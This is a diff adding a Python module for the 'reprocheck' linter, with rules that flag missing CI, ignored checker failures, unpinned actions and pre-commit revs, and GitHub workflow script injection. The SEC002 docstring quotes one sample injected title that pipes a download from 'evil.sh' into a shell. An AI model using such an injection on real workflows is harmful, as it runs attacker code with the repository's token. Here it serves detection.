@@ -1,0 +1,549 @@
+"""CI: automation (GitHub Actions, GitLab CI, pre-commit), and SEC002, script injection in workflows.
+
+CI002 follows what CI actually runs: a step's commands, the Makefile targets and repository scripts they call,
+`pre-commit run` with the reprocheck hook, the pre-commit GitHub action, and pre-commit.ci.
+"""
+
+from __future__ import annotations
+
+import posixpath
+import re
+from collections.abc import Iterator
+from dataclasses import dataclass
+
+from reprocheck import filekinds
+from reprocheck.facts.ci import EXPRESSION, CiConfig, PreCommitConfig
+from reprocheck.facts.dockerfile import parse_image
+from reprocheck.facts.shell import Command, load_script, split_commands, strip_wrappers
+from reprocheck.findings import Severity
+from reprocheck.rule import Rule
+
+COMMIT = re.compile(r"^[0-9a-f]{40}$")
+HEX = re.compile(r"^[0-9a-f]{7,40}$")
+# CI systems the checker does not parse: their presence still means the project has CI (CI001).
+OTHER_CI_FILES = (
+    ".circleci/config.yml", ".circleci/config.yaml", ".travis.yml", "azure-pipelines.yml", "azure-pipelines.yaml",
+    "Jenkinsfile", "bitbucket-pipelines.yml", ".drone.yml", ".woodpecker.yml", "appveyor.yml", ".appveyor.yml",
+    "cloudbuild.yaml", "cloudbuild.yml", "buildspec.yml", "codefresh.yml", ".cirrus.yml",
+)  # fmt: skip
+OTHER_CI_DIRS = (".woodpecker/", ".buildkite/", ".gitea/workflows/", ".forgejo/workflows/", ".azure-pipelines/")
+ANCHORS = ("pyproject.toml", "setup.py", "setup.cfg", "requirements.txt", "README.md", "README.rst", "README")
+# Programs that run another program named after their options: `uvx reprocheck`, `poetry run reprocheck`.
+RUNNERS = frozenset({"uvx", "uv", "pipx", "poetry", "pdm", "hatch", "pipenv", "conda", "mamba", "micromamba", "rye"})
+PRE_COMMIT_ACTIONS = ("pre-commit/action", "pre-commit-ci/lite-action")
+SWALLOWERS = frozenset({"true", ":", "echo", "printf"})
+MAX_DEPTH = 6
+IMAGE_KINDS = {"container": "container image", "services": "service image", "image": "image"}
+
+
+def anchor(project) -> str:
+    return next((a for a in ANCHORS if project.exists(a)), project.files[0] if project.files else "pyproject.toml")
+
+
+def has_ci(project, ci_configs: list[CiConfig], precommit: PreCommitConfig | None) -> bool:
+    if ci_configs or (precommit is not None and precommit.ci is not None):
+        return True
+    return any(
+        filekinds.is_github_workflow(f)
+        or filekinds.is_gitlab_ci(f)
+        or f in OTHER_CI_FILES
+        or f.startswith(OTHER_CI_DIRS)
+        for f in project.files
+    )
+
+
+class NoCi(Rule):
+    """
+    ## What it does
+    Reports a repository with no CI configuration: no GitHub Actions workflow, no `.gitlab-ci.yml`, no
+    pre-commit.ci section, and none of the other common CI files (CircleCI, Azure Pipelines, Jenkins, …).
+
+    ## Why it matters
+    Without CI nobody checks that the repository still installs and runs on a fresh machine. Reproducibility
+    breaks silently (a new dependency release, an untracked file) and is discovered months later by the person
+    trying to reproduce the results.
+
+    ## Example
+    A repository with `pyproject.toml`, `src/` and `train.py`, and no `.github/workflows/`.
+
+    ## Fix
+    Add a workflow that installs from the lock and runs the tests and `reprocheck` on every push, e.g.
+    `.github/workflows/ci.yml` with `uv sync --locked` and `reprocheck .`.
+    """
+
+    code = "CI001"
+    name = "no-ci"
+    severity = Severity.WARNING
+    summary = "No CI configuration"
+
+    def check(self, project, ci_configs, precommit_config):
+        if not project.files or has_ci(project, ci_configs, precommit_config):
+            return
+        yield self.finding(
+            "no CI configuration: add a workflow (.github/workflows/ci.yml or .gitlab-ci.yml) that installs from "
+            "the lock and runs the tests and reprocheck",
+            anchor(project),
+            1,
+        )
+
+
+# -- CI002 --------------------------------------------------------------------------------------------------------
+@dataclass
+class Run:
+    """A place where CI runs reprocheck; `disabled` says why its failure would not fail CI (or is None)."""
+
+    path: str
+    line: int
+    disabled: str | None
+
+
+class Resolver:
+    """Follows a CI command into Makefile targets, repository scripts and pre-commit to find reprocheck."""
+
+    def __init__(self, project, makefiles, precommit: PreCommitConfig | None):
+        self.project = project
+        self.makefiles = makefiles
+        self.precommit = precommit
+        self.hook = reprocheck_hook(precommit)
+
+    def commands(self, commands: list[Command], depth: int = 0) -> str | None:
+        """None when these commands never run reprocheck; "" when they do; else why its failure is ignored."""
+        verdict: str | None = None
+        for index, command in enumerate(commands):
+            found = self.command(command, depth)
+            if found is None:
+                continue
+            following = commands[index + 1] if index + 1 < len(commands) else None
+            if found == "" and command.operator == "||" and following is not None and swallows(following):
+                found = f"`|| {' '.join(following.argv)}`"
+            if found == "":
+                return ""
+            verdict = found
+        return verdict
+
+    def command(self, command: Command, depth: int) -> str | None:
+        argv = unwrap_runner(strip_wrappers(command.argv))
+        if not argv or depth > MAX_DEPTH:
+            return None
+        program = posixpath.basename(argv[0])
+        if program == "reprocheck" or is_python_module(argv, "reprocheck"):
+            return checker_verdict(argv[1:] if program == "reprocheck" else argv[3:])
+        if program in ("pre-commit", "prek") or is_python_module(argv, "pre_commit"):
+            return self.pre_commit(argv[1:] if program in ("pre-commit", "prek") else argv[3:])
+        if program in ("make", "gmake"):
+            return self.make(argv[1:], depth)
+        script = self.script_path(argv)
+        if script is not None:
+            commands = load_script(self.project, script)
+            return self.commands(commands, depth + 1) if commands else None
+        return None
+
+    def pre_commit(self, args: list[str]) -> str | None:
+        if self.hook is None or not args or args[0] != "run":
+            return None
+        positionals = [a for a in args[1:] if not a.startswith("-")]
+        value_options = {"--hook-stage", "--from-ref", "--to-ref", "--files", "-s", "-o", "--source", "--origin"}
+        ids = [a for i, a in enumerate(args[1:], start=1) if not a.startswith("-") and args[i - 1] not in value_options]
+        if positionals and ids and self.hook.id not in ids:
+            return None
+        return hook_verdict(self.hook)
+
+    def make(self, args: list[str], depth: int) -> str | None:
+        directory, targets, i = "", [], 0
+        while i < len(args):
+            arg = args[i]
+            if arg in ("-C", "--directory") and i + 1 < len(args):
+                directory, i = args[i + 1], i + 2
+                continue
+            if arg in ("-f", "--file", "--makefile") and i + 1 < len(args):
+                i += 2
+                continue
+            if not arg.startswith("-") and "=" not in arg:
+                targets.append(arg)
+            i += 1
+        folder = posixpath.normpath(directory) if directory else ""
+        folder = "" if folder == "." else folder
+        makefile = next(
+            (self.makefiles[p] for p in (f"{folder}/Makefile" if folder else "Makefile", "makefile", "GNUmakefile")
+             if p in self.makefiles),
+            None,
+        )  # fmt: skip
+        if makefile is None:
+            return None
+        verdict = None
+        for target in targets or [makefile.default_target]:
+            if target is None:
+                continue
+            lines = makefile.recipe_closure(target)
+            commands = [c for _, recipe in lines for c in split_commands(recipe.text, recipe.line)]
+            found = self.commands(commands, depth + 1)
+            if found == "":
+                return ""
+            verdict = verdict or found
+        return verdict
+
+    def script_path(self, argv: list[str]) -> str | None:
+        program = posixpath.basename(argv[0])
+        candidate = argv[0]
+        if program in ("bash", "sh", "zsh", "dash"):
+            rest = [a for a in argv[1:] if not a.startswith("-")]
+            if not rest or "-c" in argv[1:]:
+                return None
+            candidate = rest[0]
+        if "/" not in candidate and not filekinds.is_shell_script(candidate):
+            return None
+        rel = posixpath.normpath(candidate)
+        return rel if self.project.exists(rel) else None
+
+
+def is_python_module(argv: list[str], module: str) -> bool:
+    return bool(re.match(r"^(python|pypy)(\d+(\.\d+)?)?$", posixpath.basename(argv[0]))) and argv[1:3] == ["-m", module]
+
+
+def unwrap_runner(argv: list[str]) -> list[str]:
+    """`uvx --from reprocheck==0.1 reprocheck .` / `poetry run reprocheck` -> `reprocheck .`."""
+    if not argv or posixpath.basename(argv[0]) not in RUNNERS:
+        return argv
+    for i, arg in enumerate(argv[1:], start=1):
+        name = re.split(r"[=<>~!@\[]", arg, maxsplit=1)[0]
+        if name in ("reprocheck", "pre-commit", "prek", "make") and argv[i - 1] not in ("--from", "--with", "--spec"):
+            return [name, *argv[i + 1 :]]
+        if re.match(r"^(python|pypy)(\d+(\.\d+)?)?$", arg):
+            return argv[i:]
+    return argv
+
+
+def checker_verdict(args: list[str]) -> str | None:
+    positionals = [a for a in args if not a.startswith("-")]
+    if positionals[:1] and positionals[0] in ("rule", "rules", "config"):
+        return None
+    if any(a in ("--help", "-h", "--version", "-V") for a in args):
+        return None
+    if "--exit-zero" in args:
+        return "`--exit-zero`"
+    return ""
+
+
+def swallows(command: Command) -> bool:
+    return command.program in SWALLOWERS or command.argv[:2] == ["exit", "0"]
+
+
+def reprocheck_hook(precommit: PreCommitConfig | None):
+    if precommit is None:
+        return None
+    for repo, hook in precommit.hooks():
+        if hook.id == "reprocheck" or "reprocheck" in repo.repo.lower() or "reprocheck" in (hook.entry or ""):
+            return hook
+    return None
+
+
+def hook_verdict(hook) -> str:
+    return "`--exit-zero` in the pre-commit hook's args" if "--exit-zero" in hook.args else ""
+
+
+class CiDoesNotRunChecker(Rule):
+    """
+    ## What it does
+    Reports CI that never runs reprocheck, or runs it so that its findings cannot fail the build: with
+    `--exit-zero`, followed by `|| true`, or in a step or job with `continue-on-error: true` (GitLab:
+    `allow_failure`). Recognised: `reprocheck` (also `python -m reprocheck`, `uvx reprocheck`, `poetry run …`),
+    `pre-commit run` when `.pre-commit-config.yaml` has the reprocheck hook, the `pre-commit/action` GitHub
+    action, a `make` target or a repository script that does one of these, and pre-commit.ci (a `ci:` section in
+    the pre-commit configuration) running the hook. Only reported when the repository has CI (no CI is CI001).
+
+    ## Why it matters
+    Reproducibility decays one commit at a time: an unpinned dependency here, a committed notebook output there.
+    A check that only runs on somebody's laptop, or whose failures are ignored, stops none of it.
+
+    ## Example
+    ```yaml
+    - run: reprocheck . --exit-zero
+    ```
+
+    ## Fix
+    Run it and let it fail the build: `- run: reprocheck .`, or `pre-commit run --all-files` with the reprocheck
+    hook in `.pre-commit-config.yaml`.
+    """
+
+    code = "CI002"
+    name = "ci-does-not-run-checker"
+    severity = Severity.WARNING
+    summary = "CI never runs reprocheck, or ignores its failures"
+
+    def check(self, project, ci_configs, precommit_config, makefiles):
+        if not ci_configs:
+            return
+        resolver = Resolver(project, makefiles, precommit_config)
+        runs = list(checker_runs(ci_configs, resolver))
+        if resolver.hook is not None and precommit_config is not None and precommit_config.ci is not None:
+            skipped = precommit_config.ci.get("skip") or []
+            if resolver.hook.id not in skipped:
+                runs.append(Run(precommit_config.path, resolver.hook.line, hook_verdict(resolver.hook) or None))
+        if any(run.disabled is None for run in runs):
+            return
+        for run in runs:
+            yield self.finding(
+                f"CI runs reprocheck with {run.disabled}, so its findings never fail the build: remove it",
+                run.path,
+                run.line,
+            )
+        if not runs:
+            first = ci_configs[0]
+            yield self.finding(
+                f"CI ({first.path}) never runs reprocheck: add a step `reprocheck .` "
+                "(or `pre-commit run --all-files` with the reprocheck hook)",
+                first.path,
+                1,
+            )
+
+
+def checker_runs(ci_configs: list[CiConfig], resolver: Resolver) -> Iterator[Run]:
+    for config in ci_configs:
+        for step in config.run_steps:
+            if not step.is_shell:
+                continue
+            found = resolver.commands(split_commands(step.script, step.line, step.env))
+            if found is None:
+                continue
+            if found == "" and step.continue_on_error:
+                found = "`allow_failure: true`" if config.kind == "gitlab" else "`continue-on-error: true`"
+            yield Run(config.path, step.key_line or step.line, found or None)
+        for use in config.uses:
+            if use.action in PRE_COMMIT_ACTIONS and resolver.hook is not None:
+                found = hook_verdict(resolver.hook)
+                extra = use.inputs.get("extra_args", "")
+                if extra and resolver.hook.id not in extra.split() and not extra.startswith("-"):
+                    continue
+                if found == "" and use.continue_on_error:
+                    found = "`continue-on-error: true`"
+                yield Run(config.path, use.line, found or None)
+
+
+# -- CI003 --------------------------------------------------------------------------------------------------------
+class MutableCiEnvironment(Rule):
+    """
+    ## What it does
+    Reports what makes a CI run change without a commit: a third-party action (or reusable workflow) not pinned to
+    a 40-hex commit (`@v4`, `@main` and `@v4.2.2` are not pinned), a `docker://` action without a digest, a
+    `container:`, `services:` or GitLab `image:` without a tag or with `:latest`, and, as info,
+    `runs-on: *-latest` runners. Local actions (`./.github/actions/x`) are fine.
+
+    ## Why it matters
+    Tags and branches move: `actions/setup-python@v5` today is different code from last month, and
+    `ubuntu-latest` switches Ubuntu release under you. A CI run that passed cannot be rerun as it was, and a
+    hijacked tag runs foreign code with your repository's token.
+
+    ## Example
+    ```yaml
+    runs-on: ubuntu-latest
+    container: python:latest
+    steps:
+      - uses: actions/checkout@v4
+    ```
+
+    ## Fix
+    Pin by commit and keep the version as a comment: `uses: actions/checkout@<40-hex sha>  # v4.2.2`
+    (Dependabot/Renovate keep both current); use versioned images (`python:3.11.9-slim`) and runners
+    (`ubuntu-24.04`).
+    """
+
+    code = "CI003"
+    name = "mutable-ci-environment"
+    severity = Severity.WARNING
+    summary = "Unpinned actions, images or runners in CI"
+
+    def check(self, ci_configs):
+        for config in ci_configs:
+            for use in config.uses:
+                message = action_problem(use.uses)
+                if message:
+                    yield self.finding(message, config.path, use.line)
+            for image in config.images:
+                if "$" in image.image:
+                    continue
+                ref = parse_image(image.image, image.image, image.line)
+                if ref.digest is None and ref.tag in (None, "latest"):
+                    what = "has no tag (so it is :latest)" if ref.tag is None else "uses the moving :latest tag"
+                    yield self.finding(
+                        f"{IMAGE_KINDS[image.where]} {image.image} {what}: pin a version, e.g. {ref.name}:<version>",
+                        config.path,
+                        image.line,
+                    )
+            for runner in config.runners:
+                if runner.label.endswith("-latest"):
+                    versioned = runner.label.replace("latest", "24.04" if "ubuntu" in runner.label else "<version>")
+                    finding = self.finding(
+                        f"runs-on: {runner.label} moves to a new OS release without notice: "
+                        f"use a versioned runner (e.g. {versioned})",
+                        config.path,
+                        runner.line,
+                    )
+                    finding.severity = Severity.INFO
+                    yield finding
+
+
+def action_problem(uses: str) -> str | None:
+    if uses.startswith(("./", "../")):
+        return None
+    if uses.startswith("docker://"):
+        if "@sha256:" in uses:
+            return None
+        return f"{uses} is not pinned by digest: use {uses.split('@')[0]}@sha256:<digest>"
+    action, _, ref = uses.rpartition("@") if "@" in uses else (uses, "", "")
+    if COMMIT.match(ref):
+        return None
+    if not ref:
+        return f"{action} has no ref: pin it as {action}@<40-hex sha>"
+    return f"{action}@{ref} is not pinned to a commit: pin it as {action}@<40-hex sha>  # {ref}"
+
+
+# -- CI004 --------------------------------------------------------------------------------------------------------
+def is_branch_like(rev: str) -> bool:
+    """A rev without digits (main, master, stable, HEAD, develop) names a branch; tags and commits have digits."""
+    rev = rev.strip()
+    if HEX.match(rev):
+        return False
+    return not any(ch.isdigit() for ch in rev)
+
+
+class PreCommitNotPinned(Rule):
+    """
+    ## What it does
+    Reports a repository without `.pre-commit-config.yaml`, and hooks whose `rev:` is a branch name (`main`,
+    `master`, `stable`, `HEAD`) instead of a tag (`v0.6.9`, `24.8.0`) or a commit. `repo: local` and
+    `repo: meta` hooks have no rev and are fine.
+
+    ## Why it matters
+    pre-commit runs the same checks on every machine before a commit lands, including reprocheck. A branch rev
+    makes each machine run whatever the branch holds on the day the hook was installed, so "passes locally"
+    means different things to different people.
+
+    ## Example
+    ```yaml
+    repos:
+      - repo: https://github.com/psf/black
+        rev: stable
+    ```
+
+    ## Fix
+    Add `.pre-commit-config.yaml` with the hooks the project uses, pinned: `pre-commit autoupdate --freeze`
+    writes commit SHAs with the tag as a comment.
+    """
+
+    code = "CI004"
+    name = "pre-commit-not-pinned"
+    severity = Severity.WARNING
+    summary = ".pre-commit-config.yaml missing, or a hook rev that is a branch"
+
+    def check(self, project, precommit_config):
+        if precommit_config is None:
+            if project.files and not project.exists(".pre-commit-config.yaml"):
+                yield self.finding(
+                    "no .pre-commit-config.yaml: add one with the project's hooks (reprocheck, formatters) "
+                    "pinned to tags or commits",
+                    anchor(project),
+                    1,
+                )
+            return
+        for repo in precommit_config.repos:
+            if repo.repo in ("local", "meta") or repo.rev is None:
+                continue
+            if is_branch_like(repo.rev):
+                yield self.finding(
+                    f"pre-commit hook repo {repo.repo} uses rev: {repo.rev}, a branch: pin a tag or commit "
+                    "(pre-commit autoupdate --freeze)",
+                    precommit_config.path,
+                    repo.rev_line,
+                )
+
+
+# -- SEC002 -------------------------------------------------------------------------------------------------------
+UNTRUSTED = re.compile(
+    r"\b(github\.event\.[A-Za-z0-9_.\-\[\]'\"*]+|github\.head_ref|(?:github\.event\.)?inputs\.[A-Za-z0-9_\-]+)"
+)
+SAFE_EVENT_FIELDS = re.compile(
+    r"\.(number|id|sha|node_id|before|after|created_at|updated_at|merged|draft|size|run_id|run_number|forced|"
+    r"additions|deletions|changed_files|commits|comments)$"
+)
+SAFE_INPUT_TYPES = frozenset({"boolean", "number", "choice", "environment"})
+BOOLEAN_EXPRESSION = re.compile(r"(==|!=|<=|>=|^\s*!|^\s*(contains|startsWith|endsWith)\()")
+
+
+def untrusted_references(expression: str, inputs: dict[str, str]) -> list[str]:
+    if BOOLEAN_EXPRESSION.search(expression):
+        return []
+    out = []
+    for match in UNTRUSTED.finditer(expression):
+        reference = match.group(1).rstrip(".")
+        if reference.startswith(("inputs.", "github.event.inputs.")):
+            name = reference.rsplit(".", 1)[1]
+            if inputs.get(name, "string") in SAFE_INPUT_TYPES:
+                continue
+        elif SAFE_EVENT_FIELDS.search(reference):
+            continue
+        out.append(reference)
+    return out
+
+
+class WorkflowScriptInjection(Rule):
+    """
+    ## What it does
+    Reports an untrusted `${{ github.event.* }}`, `${{ github.head_ref }}` or `${{ inputs.* }}` expression
+    written inside a workflow or composite-action `run:` script. Numeric and SHA fields
+    (`github.event.pull_request.number`, `….head.sha`), boolean/number/choice `workflow_dispatch` inputs and
+    comparisons (`${{ github.event.action == 'opened' }}`) are not reported.
+
+    ## Why it matters
+    GitHub pastes the expression's value into the script before the shell runs it. A pull-request title such as
+    `"; curl evil.sh | sh; #` then runs as code in your CI, with your repository token and caches: builds stop
+    being trustworthy, and so does every artifact they produce.
+
+    ## Example
+    ```yaml
+    - run: echo "Building ${{ github.event.pull_request.title }}"
+    ```
+
+    ## Fix
+    Pass the value through the environment and quote it:
+    ```yaml
+    - run: echo "Building $TITLE"
+      env:
+        TITLE: ${{ github.event.pull_request.title }}
+    ```
+    """
+
+    code = "SEC002"
+    name = "workflow-script-injection"
+    severity = Severity.WARNING
+    summary = "An untrusted ${{ github.event.* }} / ${{ inputs.* }} expression inside a workflow run: script"
+
+    def check(self, ci_configs):
+        for config in ci_configs:
+            if config.kind not in ("github", "action"):
+                continue
+            source_lines = config.yaml.text.splitlines() if config.yaml is not None else []
+            for step in config.run_steps:
+                for match in EXPRESSION.finditer(step.script):
+                    for reference in untrusted_references(match.group(1), config.inputs):
+                        line = step.line if step.folded else step.line + step.script.count("\n", 0, match.start())
+                        column = column_of(source_lines, line, match.group(0))
+                        variable = env_name(reference)
+                        yield self.finding(
+                            f"{match.group(0)} is expanded into a run: script (script injection): pass it through "
+                            f'env: ({variable}: ${{{{ {reference} }}}}) and use "${variable}"',
+                            config.path,
+                            line,
+                            column,
+                        )
+
+
+def column_of(lines: list[str], line: int, needle: str) -> int | None:
+    if 0 < line <= len(lines):
+        index = lines[line - 1].find(needle)
+        return index + 1 if index >= 0 else None
+    return None
+
+
+def env_name(reference: str) -> str:
+    last = re.split(r"[.\[\]'\"]+", reference.strip(".[]'\""))[-1] or "VALUE"
+    return re.sub(r"[^A-Za-z0-9]+", "_", last).upper()
